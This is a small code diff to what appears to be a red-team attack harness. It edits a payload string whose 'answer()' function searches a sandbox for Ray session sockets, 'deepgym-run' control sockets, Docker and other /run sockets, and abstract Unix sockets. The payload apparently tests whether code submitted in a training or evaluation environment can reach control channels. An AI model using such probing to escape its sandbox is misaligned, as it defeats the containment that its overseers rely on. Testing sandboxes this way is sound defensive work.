@@ -5,7 +5,8 @@ from harness import Attack
 UNIX = r'''
 import glob, os, socket
 def answer():
-    paths = glob.glob("/tmp/ray/session_*/sockets/*") + glob.glob("/tmp/deepgym-run-*/ctl")
+    paths = glob.glob("/tmp/ray/session_*/sockets/*") + glob.glob("/tmp/*/ray/session_*/sockets/*")
+    paths += glob.glob("/tmp/deepgym-run-*/ctl")
     paths += glob.glob("/run/*.sock") + glob.glob("/var/run/*.sock") + ["/run/docker.sock"]
     names = ["\0" + line.split()[-1][1:] for line in open("/proc/net/unix")
              if line.split()[-1].startswith("@")] if os.path.exists("/proc/net/unix") else []
